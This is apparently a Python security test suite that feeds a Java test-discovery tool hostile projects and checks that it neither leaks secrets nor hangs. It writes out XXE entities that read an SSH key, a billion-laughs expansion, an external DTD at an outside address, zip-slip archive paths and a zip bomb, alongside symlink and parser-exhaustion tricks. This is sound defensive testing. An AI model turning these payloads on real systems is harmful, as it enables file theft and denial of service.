"""Trees and artifacts that are read: links out of the project, files without an end, build files with entities."""

import io
import os
import socket
import zipfile
from pathlib import Path

from canaries import House, holds_secret
from hostile import innocent, lay, pom
from registry import Broke, NotTried, Part, Severity, attempt
from workbench import Ran, Workbench

from attempts.fence import inside_run

_FOUND = "decodeUndoesEncode"


def _discover(bench: Workbench, house: House, seconds: float = 40) -> Ran:
    """Discover, which must end in order, find the innocent test, and tell no secret."""
    ran = bench.run(
        house, "discover", house.project, "--format", "jsonl", seconds=seconds, memory=800
    ).must_end(0)
    if "org.acme.InnocentTest.decodeUndoesEncode" not in ran.out:
        raise Broke(f"the innocent test was not found: {ran.last}")
    if secret := holds_secret(ran.said):
        raise Broke(f"{secret} was printed")
    return ran


def _house(bench: Workbench, name: str) -> House:
    house = bench.house(name)
    lay(house.project, {"pom.xml": pom(), **innocent()})
    return house


def _seen(ran: Ran) -> str:
    return f"exit {ran.code}, {ran.seconds:.1f} s, {ran.peak >> 20} MB"


def _linked(name: str, severity: Severity, place: str, target: str, description: str) -> None:
    @attempt(Part.SOURCES, severity, quick=True, name=f"discover-{name}", description=description)
    def act(bench: Workbench) -> str:
        house = _house(bench, name)
        path = house.project / place
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        os.mkfifo(house.base / "fifo")
        path.symlink_to(target.format(home=house.home, fifo=house.base / "fifo"))
        return _seen(_discover(bench, house))


_TEST = "src/test/java/org/acme"
_linked(
    "link-to-key",
    Severity.HIGH,
    f"{_TEST}/KeyTest.java",
    "{home}/.ssh/id_rsa",
    "A test file that is a link to a key.",
)
_linked("link-to-root", Severity.MEDIUM, f"{_TEST}/all", "/", "A folder that is a link to /.")
_linked(
    "link-to-zeros",
    Severity.MEDIUM,
    f"{_TEST}/ZeroTest.java",
    "/dev/zero",
    "A test file that is a link to /dev/zero.",
)
_linked(
    "link-to-fifo",
    Severity.MEDIUM,
    f"{_TEST}/FifoTest.java",
    "{fifo}",
    "A test file that is a link to a FIFO elsewhere.",
)
_linked("pom-of-zeros", Severity.MEDIUM, "module/pom.xml", "/dev/zero", "A POM that is a link to /dev/zero.")
_linked(
    "pom-is-fifo", Severity.MEDIUM, "module/pom.xml", "{fifo}", "A POM that is a link to a FIFO elsewhere."
)
_linked(
    "link-to-itself",
    Severity.LOW,
    f"{_TEST}/loop",
    "../../../..",
    "A folder that is a link to a folder above it.",
)


@attempt(Part.SOURCES, Severity.MEDIUM, quick=True)
def discover_fifo_and_socket(bench: Workbench) -> str:
    """A FIFO and a socket that are called like tests."""
    house = _house(bench, "fifo")
    os.mkfifo(house.project / _TEST / "PipeTest.java")
    with socket.socket(socket.AF_UNIX) as listener:
        here = os.open(house.project / _TEST, os.O_RDONLY)
        listener.bind(f"/proc/self/fd/{here}/SockTest.java")
        os.close(here)
        return _seen(_discover(bench, house))


@attempt(Part.SOURCES, Severity.MEDIUM, quick=True)
def discover_huge_file(bench: Workbench) -> str:
    """A sparse test file of 3 GB."""
    house = _house(bench, "huge")
    with (house.project / _TEST / "BigTest.java").open("wb") as file:
        file.write(b"class BigTest { @Test void x() { } }\n")
        file.truncate(3 << 30)
    return _seen(_discover(bench, house))


@attempt(Part.SOURCES, Severity.MEDIUM, quick=True)
def discover_deep_tree(bench: Workbench) -> str:
    """A tree of 3,000 folders."""
    house = _house(bench, "deep")
    here = os.open(house.project / _TEST, os.O_RDONLY)
    for _ in range(3000):
        os.mkdir("d", dir_fd=here)
        below = os.open("d", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
    os.close(here)
    return _seen(_discover(bench, house))


@attempt(Part.SOURCES, Severity.LOW, quick=True)
def discover_hidden_by_run_record(bench: Workbench) -> str:
    """A run.json that makes a source folder look like a run folder."""
    house = _house(bench, "hidden")
    lay(house.project, {f"{_TEST}/run.json": '{\n  "mrscout": "0.1.0.dev0",\n  "complete": true\n}\n'})
    ran = bench.run(house, "discover", house.project, "--format", "jsonl").must_end(0)
    if _FOUND not in ran.out and "run.json" not in ran.err:
        raise Broke("a source folder was passed over without a word")
    return "found, or said to be passed over"


_ENTITIES = """<?xml version="1.0"?>
<!DOCTYPE project [ {} ]>
<project><modelVersion>4.0.0</modelVersion><groupId>org.acme</groupId><artifactId>{}</artifactId><version>1</version>
<modules><module>&x;</module></modules></project>
"""


def _markup(name: str, description: str, declared: str, artifact: str = "a") -> None:
    @attempt(Part.SOURCES, Severity.HIGH, quick=True, name=f"discover-{name}", description=description)
    def act(bench: Workbench) -> str:
        house = _house(bench, name)
        lay(house.project, {"pom.xml": _ENTITIES.format(declared.format(home=house.home), artifact)})
        return _seen(_discover(bench, house))


_markup(
    "entity-of-a-file",
    "A POM with an entity that is a key.",
    '<!ENTITY x SYSTEM "file://{home}/.ssh/id_rsa">',
)
_markup(
    "entities-without-end",
    "A POM whose entities expand to gigabytes.",
    '<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
    + '<!ENTITY x "&j;">',
)
_markup(
    "external-definition",
    "A POM with a definition from elsewhere.",
    '<!ENTITY % d SYSTEM "http://203.0.113.7/x.dtd"> %d; <!ENTITY x "y">',
)


@attempt(Part.SOURCES, Severity.LOW, quick=True)
def discover_odd_names(bench: Workbench) -> str:
    """File names with line breaks, escape codes and bytes that are no text."""
    house = _house(bench, "names")
    folder = os.fsencode(house.project / _TEST)
    for name in (
        b"A\nTest.java",
        b"\x1b[2JTest.java",
        b"\xff\xfeTest.java",
        b"x" * 250 + b".java",
        b"-rf Test.java",
    ):
        Path(os.fsdecode(folder + b"/" + name)).write_text("class X { @Test void x() { } }")
    ran = bench.run(house, "discover", house.project).must_end(0)
    if "\x1b[2J" in ran.said:
        raise Broke("an escape code reached the terminal")
    return _seen(_discover(bench, house))


def _archive(entries: dict[str, bytes | int]) -> bytes:
    """A jar; a number stands for as many zeros."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in entries.items():
            with archive.open(name, "w", force_zip64=True) as entry:
                if isinstance(content, bytes):
                    entry.write(content)
                else:
                    for _ in range(content >> 20):
                        entry.write(bytes(1 << 20))
    return packed.getvalue()


def _artifact(name: str, description: str, tests: dict[str, bytes | int]) -> None:
    @attempt(
        Part.SOURCES, Severity.HIGH, quick=name != "bomb", name=f"artifact-{name}", description=description
    )
    def act(bench: Workbench) -> str:
        house = bench.house(f"artifact-{name}")
        innocents = {path.partition("/java/")[2]: text.encode() for path, text in innocent().items()}
        main, test = (
            {path: text for path, text in innocents.items() if ("Test" in path) is wanted}
            for wanted in (False, True)
        )
        lay(
            house.base / "published",
            {
                "pom/a-1.pom": pom(),
                "library/a-1.jar": _archive({"org/acme/A.txt": b"x"}),
                "sources/a-1-sources.jar": _archive(main),
                "test-sources/a-1-test-sources.jar": _archive({**test, **tests}),
            },
        )
        # A registry is played by a command that "fetches" what was published.
        lay(
            house.base / "bin",
            {
                "mvn": f'#!/bin/sh\ncp -r {house.base}/published/. .\necho "Scanning for projects"\n'
                "echo '[ERROR] on project tests: Could not find artifact org.acme:a:jar:tests:1'\n"
            },
        )
        (house.base / "bin/mvn").chmod(0o755)
        path = {"PATH": f"{house.base}/bin:{os.environ['PATH']}", "MRSCOUT_CACHE": str(house.base / "cache")}
        ran = bench.run(
            house,
            "discover",
            "maven:org.acme:a:1",
            "--format",
            "jsonl",
            environment=path,
            memory=800,
            seconds=60,
        )
        ran.must_end(0, 3)
        if list(house.base.rglob("PWNED*")):
            raise Broke("a file was written outside of the cache's folder for the artifact")
        if secret := holds_secret(ran.said):
            raise Broke(f"{secret} was printed")
        if house.changes():
            raise Broke(f"changed: {house.changes()}")
        size = sum(file.lstat().st_size for file in (house.base / "cache").rglob("*") if file.is_file())
        if size > 1 << 30:
            raise Broke(f"{size >> 20} MB were unpacked")
        return _seen(ran)


_artifact(
    "traversal",
    "An artifact whose entries lead out of its folder.",
    {"../../../PWNED.java": b"x", "/PWNED.java": b"x", "a/../../PWNED.java": b"x", "..\\PWNED.java": b"x"},
)
_artifact(
    "bomb",
    "An artifact that unpacks to more than 1 GB.",
    {f"org/acme/B{i}Test.java": 1 << 27 for i in range(9)},
)
_artifact(
    "names",
    "An artifact with over-long, odd and colliding names.",
    {"x" * 5000 + ".java": b"x", "A/B.java": b"x", "A": b"x", "C\nD.java": b"x"},
)


@attempt(Part.SOURCES, Severity.HIGH, quick=True)
def links_carry_no_secret_to_code(bench: Workbench) -> str:
    """Resources and a jar that are links to keys, to the environment and to folders of the home."""
    house = inside_run(bench)
    verdicts = (house.out / "verdicts.jsonl").read_text() if (house.out / "verdicts.jsonl").exists() else ""
    if "LOOT[" not in verdicts:
        raise NotTried("the carrier left no message")
    if secret := holds_secret(verdicts):
        raise Broke(f"code in the fence read {secret}")
    return "the code found nothing behind the links"


@attempt(Part.SOURCES, Severity.HIGH, quick=True)
def links_leave_no_secret_behind(bench: Workbench) -> str:
    """Links whose targets are copied into the run folder."""
    house = inside_run(bench)
    if leaks := house.leaks():
        raise Broke("; ".join(leaks[:3]))
    return "no secret in the run folder"


@attempt(Part.SOURCES, Severity.MEDIUM)
def exported_comment_ends_early(bench: Workbench) -> str:
    """A path with */ and \\u in it, which would end a comment in generated Java."""
    house = bench.house("comment")
    lay(house.project, {"pom.xml": pom(), **innocent()})
    odd = house.project / "src/test/java/a*" / "\\u002a\\u002f"
    odd.mkdir(parents=True)
    (house.project / "src/test/java/org/acme/InnocentTest.java").rename(odd / "InnocentTest.java")
    ran = bench.run(
        house, "synthesize", house.project, "--out", house.out, "--no-candidates", "-j", "1"
    ).must_end(0)
    statuses = (house.out / "relations.jsonl").read_text()
    if '"status":"codified"' not in statuses:
        raise Broke(f"the relation is lost: {statuses[:200]} {ran.last}")
    return "the relation compiles"


@attempt(Part.SOURCES, Severity.LOW)
def module_named_like_markup(bench: Workbench) -> str:
    """A module whose folder holds & and <."""
    house = bench.house("markup")
    parent = pom().replace(
        "<dependencies>",
        "<packaging>pom</packaging><modules><module>a&amp;b&lt;c</module></modules>\n  <dependencies>",
    )
    child = "<project><modelVersion>4.0.0</modelVersion><parent><groupId>org.acme</groupId><artifactId>hostile</artifactId><version>1</version></parent><artifactId>child</artifactId></project>"
    lay(
        house.project,
        {
            "pom.xml": parent,
            "a&b<c/pom.xml": child,
            **{f"a&b<c/{path}": text for path, text in innocent().items()},
        },
    )
    bench.run(house, "synthesize", house.project, "--out", house.out, "--no-candidates", "-j", "1").must_end(
        0
    )
    if '"status":"codified"' not in (house.out / "relations.jsonl").read_text():
        raise Broke("no relation of the module is codified")
    return "its relation is codified"


def _busy(name: str, description: str, files: dict[str, str]) -> None:
    """A small project that is made to keep whoever reads it busy."""

    @attempt(Part.SOURCES, Severity.MEDIUM, quick=True, name=f"discover-{name}", description=description)
    def act(bench: Workbench) -> str:
        house = _house(bench, name)
        lay(house.project, files)
        return _seen(_discover(bench, house))


def _busy_test(body: str, imports: str = "") -> dict[str, str]:
    head = f"package org.acme;\nimport static org.junit.Assert.*;\nimport org.junit.Test;\n{imports}"
    return {
        f"{_TEST}/BusyTest.java": f"{head}public class BusyTest {{ @Test public void t() {{\n{body}\n}} }}\n"
    }


_busy("cube-of-signs", "A test of 80 kB that tree-sitter takes minutes for.", _busy_test(")-" * 40_000))
_busy("angles", "A test of 200 kB that takes tree-sitter 80 GB.", _busy_test("x = " + "a<" * 100_000))
_busy(
    "blanks-in-an-assertion",
    "An assertion with blanks where a regular expression may divide them in many ways.",
    _busy_test(f"assertTrue(Codec{' ' * 20_000}.encode( 1 ){' ' * 20_000} x );"),
)
_busy(
    "many-literals",
    "60,000 assertions with a literal each.",
    _busy_test("".join(f"assertEquals({number}, x);\n" for number in range(60_000))),
)
_busy(
    "star-imports",
    "6,000 unknown names and 12,000 star imports.",
    _busy_test(
        "".join(f"N{number} n{number} = N{number}.x();" for number in range(6_000)),
        "".join(f"import d{number}.*;\nimport static e{number}.F.*;\n" for number in range(6_000)),
    ),
)
_busy("lines-in-a-script", "A build.gradle of a million empty lines.", {"build.gradle": "\n" * 1_000_000})
_busy(
    "quotes-in-a-script",
    "A build.gradle of half a million escaped quotation marks.",
    {"build.gradle": '"' + '\\"' * 500_000},
)
_busy(
    "scripts-that-apply-each-other",
    "Thirty scripts that each apply the next twice.",
    {
        "build.gradle": "apply from: 's0.gradle'\n",
        **{f"s{number}.gradle": f"apply from: 's{number + 1}.gradle'\n" * 2 for number in range(30)},
        "s30.gradle": "x 1\n",
    },
)
